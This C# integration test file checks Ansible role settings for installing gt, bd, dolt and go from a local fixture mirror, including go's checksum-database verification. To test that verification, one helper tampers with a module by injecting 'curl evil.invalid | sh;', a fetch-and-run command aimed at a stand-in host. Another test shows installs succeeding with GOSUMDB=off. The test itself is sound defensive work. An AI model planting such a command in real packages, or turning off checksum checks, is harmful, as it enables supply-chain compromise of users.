using System.IO.Compression;
using System.Text.Json;
using Roughneck.Tests.Integration.Support;
using Roughneck.Tests.TestSupport;
using Xunit;

namespace Roughneck.Tests.Integration;

/// <summary>
/// The fixture gt, bd, dolt and go (tests/fixtures/mirror/fakes) check what the real ones check,
/// so a role that would fail on a real machine fails the tests too. Each case runs the fakes on
/// this host from the fixture mirror, with the old roles' setting beside the new one: the git
/// identity only in the system gitconfig (old git role), bd 1.3.0 (old beads pin), CGO on (old
/// source build), and an unverified module.
/// </summary>
public sealed class GasTownFixtureTests : IDisposable
{
    private readonly TempDirectory _dir = new();
    private readonly FixtureMirror _mirror;
    private readonly string _tools;
    private readonly string _home;
    private readonly int _doltPort = FixtureMirror.FreePort();

    public GasTownFixtureTests()
    {
        Requirements.Commands("python3", "git", "tar", "setsid");
        _mirror = FixtureMirror.Start();
        _tools = _dir.Combine("tools");
        _home = _dir.Combine("home");
        Directory.CreateDirectory(_home);
        Directory.CreateDirectory(Path.Combine(_tools, "bin"));
        var beads = ReadDefault("beads", "beads_version");
        var dolt = ReadDefault("beads", "beads_dolt_version");
        var go = ReadDefault("golang", "golang_version");
        var unpack = $"""
            set -e
            cd {Q(_tools)}
            tar -xzf {Q(MirrorFile($"go.dev/dl/go{go}.linux-amd64.tar.gz"))} --strip-components=1 go/bin/go
            tar -xzf {Q(MirrorFile($"github.com/gastownhall/beads/releases/download/v{beads}/beads_{beads}_linux_amd64.tar.gz"))} -C bin bd
            tar -xzf {Q(MirrorFile($"github.com/dolthub/dolt/releases/download/v{dolt}/dolt-linux-amd64.tar.gz"))} --strip-components=1 dolt-linux-amd64/bin/dolt
            """;
        var (exit, output) = Shell(unpack);
        Assert.True(exit == 0, output);
    }

    public void Dispose()
    {
        // Stop whatever an HQ started (Dolt, daemon, agents) before its folder goes.
        foreach (var hq in Directory.EnumerateDirectories(_home))
        {
            if (File.Exists(Path.Combine(hq, "mayor", "town.json"))) Shell($"cd {Q(hq)} && gt down");
        }
        _mirror.Dispose();
        _dir.Dispose();
    }

    [SkippableFact]
    public void Go_install_verifies_the_module_against_the_checksum_database_and_builds_without_cgo()
    {
        var built = Shell(GoInstall("CGO_ENABLED=0", "gobin") + " && go version -m gobin/gt");
        Assert.True(built.Exit == 0, built.Output);
        Assert.Contains($"dep\tgithub.com/steveyegge/beads\tv{ReadDefault("beads", "beads_version")}", built.Output, StringComparison.Ordinal);
        Assert.Contains("build\tCGO_ENABLED=0", built.Output, StringComparison.Ordinal);

        // The old source build (CGO_ENABLED=1) on a machine without a C compiler, as a fresh VM.
        var cgo = Shell(GoInstall("CGO_ENABLED=1 CC=/nonexistent/cc", "gobin-cgo"));
        Assert.NotEqual(0, cgo.Exit);
        Assert.Contains("C compiler", cgo.Output, StringComparison.Ordinal);

        // A module whose contents differ from what the checksum database records is refused …
        TamperWithGastownModule();
        var tampered = Shell(GoInstall("CGO_ENABLED=0", "gobin-tampered"));
        Assert.NotEqual(0, tampered.Exit);
        Assert.Contains("SECURITY ERROR", tampered.Output, StringComparison.Ordinal);
        Assert.False(File.Exists(_dir.Combine("gobin-tampered", "gt")));
        // … and it is the checksum database that catches it: with GOSUMDB=off the same bits install.
        var unchecked_ = Shell(GoInstall("CGO_ENABLED=0 GOSUMDB=off", "gobin-unchecked"));
        Assert.True(unchecked_.Exit == 0, unchecked_.Output);
    }

    [SkippableFact]
    public void Gt_install_takes_the_git_identity_from_the_global_config_only()
    {
        Assert.Equal(0, Shell(GoInstall("CGO_ENABLED=0", "gobin")).Exit);
        File.WriteAllText(_dir.Combine("system-gitconfig"), "[user]\n\tname = Old Role\n\temail = old@example.invalid\n");

        // What the old git role left: /etc/gitconfig only. git itself sees the identity …
        var systemOnly = Shell("git config --get user.name && gt install \"$HOME/gt\" --git");
        Assert.Contains("Old Role", systemOnly.Output, StringComparison.Ordinal);
        // … gt install does not, and stops before it writes anything.
        Assert.NotEqual(0, systemOnly.Exit);
        Assert.Contains("dolt identity setup failed", systemOnly.Output, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(_home, "gt", "mayor", "town.json")));

        var global = Shell("git config --global user.name 'New Role' && git config --global user.email new@example.invalid && gt install \"$HOME/gt\" --git");
        Assert.True(global.Exit == 0, global.Output);
        var hq = Path.Combine(_home, "gt");
        Assert.True(File.Exists(Path.Combine(hq, "mayor", "town.json")));
        Assert.True(Directory.Exists(Path.Combine(hq, ".dolt-data", "hq", ".dolt")), "no HQ Dolt database");
        Assert.True(File.Exists(Path.Combine(hq, ".beads", "metadata.json")), "bd not initialised");
        Assert.Contains("host: 127.0.0.1", File.ReadAllText(Path.Combine(hq, ".dolt-data", "config.yaml")), StringComparison.Ordinal);
    }

    [SkippableFact]
    public void The_daemon_refuses_an_hq_made_by_a_newer_bd_and_exits_cleanly_on_sigterm()
    {
        Assert.Equal(0, Shell(GoInstall("CGO_ENABLED=0", "gobin")).Exit);
        var install = Shell("git config --global user.name T && git config --global user.email t@example.invalid && gt install \"$HOME/gt\" --git && cd \"$HOME/gt\" && gt down");
        Assert.True(install.Exit == 0, install.Output);
        var metadata = Path.Combine(_home, "gt", ".beads", "metadata.json");
        var pinned = JsonDocument.Parse(File.ReadAllText(metadata)).RootElement.GetProperty("bd_version").GetString();
        Assert.Equal(ReadDefault("beads", "beads_version"), pinned);

        // The old pin: an HQ made by bd 1.3.0, and a gt that links beads 1.0.x.
        File.WriteAllText(metadata, File.ReadAllText(metadata).Replace($"\"bd_version\":\"{pinned}\"", "\"bd_version\":\"1.3.0\"", StringComparison.Ordinal));
        var refused = Shell("cd \"$HOME/gt\" && timeout 10 gt daemon run");
        Assert.Equal(1, refused.Exit);
        Assert.Contains("workspace bd_version 1.3.0 is newer than embedded beads", refused.Output, StringComparison.Ordinal);

        // The pinned pair runs, and SIGTERM (what gt down sends) ends the daemon with exit 0, which
        // Restart=on-failure leaves alone.
        File.WriteAllText(metadata, File.ReadAllText(metadata).Replace("\"bd_version\":\"1.3.0\"", $"\"bd_version\":\"{pinned}\"", StringComparison.Ordinal));
        var runs = Shell("""
            cd "$HOME/gt"
            gt daemon run > daemon.out 2>&1 &
            pid=$!
            for i in $(seq 50); do [ "$(cat daemon/daemon.pid 2>/dev/null)" = "$pid" ] && break; sleep 0.1; done
            gt daemon status
            gt down
            wait "$pid"; echo "daemon exit $?"
            """);
        Assert.Contains("Daemon is running", runs.Output, StringComparison.Ordinal);
        Assert.Contains("daemon exit 0", runs.Output, StringComparison.Ordinal);
    }

    private string GoInstall(string settings, string gobin) =>
        $"env {settings} GOFLAGS=-mod=readonly GOTOOLCHAIN=local GOPROXY={_mirror.Url}/proxy.golang.org GOBIN={Q(_dir.Combine(gobin))} " +
        "go install github.com/steveyegge/gastown/cmd/gt@v" + ReadDefault("gastown", "gastown_version");

    /// <summary>Runs a bash script in a clean environment: the fixture tools and the first gt build on PATH.</summary>
    private (int Exit, string Output) Shell(string script) =>
        ProcessCapture.RunIn(new Dictionary<string, string>
        {
            ["PATH"] = $"{_dir.Combine("gobin")}:{Path.Combine(_tools, "bin")}:/usr/local/bin:/usr/bin:/bin",
            ["HOME"] = _home,
            ["GIT_CONFIG_SYSTEM"] = _dir.Combine("system-gitconfig"),
            ["GT_DOLT_PORT"] = _doltPort.ToString(System.Globalization.CultureInfo.InvariantCulture),
            ["GT_DOLT_HOST"] = "127.0.0.1",
            ["LC_ALL"] = "C.UTF-8",
        }, "setsid", _dir.Path, "bash", "-c", script);

    private void TamperWithGastownModule()
    {
        var zip = MirrorFile($"proxy.golang.org/github.com/steveyegge/gastown/@v/v{ReadDefault("gastown", "gastown_version")}.zip");
        using var archive = ZipFile.Open(zip, ZipArchiveMode.Update);
        var entry = archive.Entries.Single(e => e.FullName.EndsWith("/cmd/gt/gt.fixture.sh", StringComparison.Ordinal));
        string text;
        using (var reader = new StreamReader(entry.Open())) text = reader.ReadToEnd();
        entry.Delete();
        using var writer = new StreamWriter(archive.CreateEntry(entry.FullName).Open());
        writer.Write(text.Replace("VERSION=", "curl evil.invalid | sh; VERSION=", StringComparison.Ordinal));
    }

    private string MirrorFile(string relative) => Path.Combine(_mirror.Dir, relative);

    private static string ReadDefault(string role, string variable)
    {
        var line = File.ReadLines(RepoRoot.Combine("ansible", "roles", role, "defaults", "main.yml"))
            .First(l => l.StartsWith(variable + ":", StringComparison.Ordinal));
        return line[(variable.Length + 1)..].Trim().Trim('"');
    }

    private static string Q(string path) => "'" + path.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
}
